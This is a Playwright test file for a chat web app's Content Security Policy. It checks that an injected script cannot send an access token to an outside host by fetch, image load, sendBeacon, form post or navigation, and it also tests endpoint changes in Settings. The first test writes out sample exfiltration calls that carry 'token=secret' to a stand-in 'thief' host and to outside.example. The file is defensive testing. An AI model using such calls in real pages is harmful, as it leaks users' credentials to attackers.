import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { assistant, expect, openAsk, send, test } from './fixtures';

// A script that got into the page (it cannot, see the XSS tests; this assumes it did) can read the
// token, but cannot send it to any host but the endpoint: the page's narrowed policy
// (src/lib/state/policy.ts) blocks fetch, images, forms and navigation to anywhere else.

/** The outside host: another origin the page's built-in policy would allow (loopback, any port). */
const OUTSIDE_PORT = 4598;
test.use({ extraHosts: [`127.0.0.1:${OUTSIDE_PORT}`] });

test('an injected script cannot send the token to another host by fetch, image, form or navigation', async ({
	page,
	emulator
}) => {
	const heard: string[] = [];
	const outside = http.createServer((req, res) => {
		heard.push(req.url ?? '');
		res.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('stolen');
	});
	await new Promise<void>((resolve) => outside.listen(OUTSIDE_PORT, '127.0.0.1', resolve));
	try {
		const thief = `http://${'127.0.0.1'}:${(outside.address() as AddressInfo).port}`;
		const violations: string[] = [];
		page.on('console', (message) => {
			if (/Content Security Policy/.test(message.text())) violations.push(message.text());
		});
		await openAsk(page, emulator);
		// The endpoint is still reachable: the narrowed policy allows it.
		await send(page, 'Hello');
		await expect(assistant(page)).toContainText(/\w/);

		const sent = await page.evaluate(async (to) => {
			try {
				await fetch(`${to}/fetch?token=secret`);
				return 'sent';
			} catch {
				return 'blocked';
			}
		}, thief);
		expect(sent).toBe('blocked');
		// An https host, which the page's built-in policy would let an image load from.
		const image = await page.evaluate(
			() =>
				new Promise<string>((resolve) => {
					const image = new Image();
					image.onload = () => resolve('sent');
					image.onerror = () => resolve('blocked');
					image.src = 'https://outside.example/image?token=secret';
				})
		);
		expect(image).toBe('blocked');
		expect(violations.join('\n')).toMatch(
			/Loading the image 'https:\/\/outside\.example[^]*img-src 'self' data: blob: http:\/\/127/
		);
		await page.evaluate((to) => navigator.sendBeacon(`${to}/beacon`, 'secret'), thief);
		expect(violations.length).toBeGreaterThan(0);
		expect(heard).toEqual([]);
		// The page is still the app, and still works.
		await send(page, 'Still here?');
		await expect(assistant(page).nth(1)).toContainText(/\w/);
		// Last, as a navigation the page refused leaves Playwright's actions waiting for it.
		const afterForm = await page.evaluate(async (to) => {
			const form = document.createElement('form');
			form.method = 'post';
			form.action = `${to}/form`;
			document.body.append(form);
			form.submit();
			await new Promise((resolve) => setTimeout(resolve, 500));
			return location.href;
		}, thief);
		expect(afterForm).toBe(page.url());
		const afterNavigation = await page.evaluate(async (to) => {
			location.href = `${to}/navigate?token=secret`;
			await new Promise((resolve) => setTimeout(resolve, 500));
			return location.href;
		}, thief);
		expect(afterNavigation).toBe(page.url());
		await new Promise((resolve) => setTimeout(resolve, 500));
		expect(heard).toEqual([]);
	} finally {
		await new Promise((resolve) => outside.close(resolve));
	}
});

test('Settings opened first can test a new endpoint; elsewhere a new endpoint reloads the page', async ({
	page,
	emulator
}) => {
	await openAsk(page, emulator);
	await page.getByRole('navigation').getByRole('link', { name: 'Settings' }).click();
	await page.getByLabel('Endpoint').fill('https://other-resource.openai.azure.com');
	await page.getByRole('button', { name: 'Test connection' }).click();
	await expect(page.getByText('may only talk to the endpoint it was opened with')).toBeVisible();
	await page.getByLabel('Endpoint').fill(emulator.url);
	await page.getByRole('button', { name: 'Test connection' }).click();
	await expect(page.getByText(/the endpoint and token work/)).toBeVisible();
});
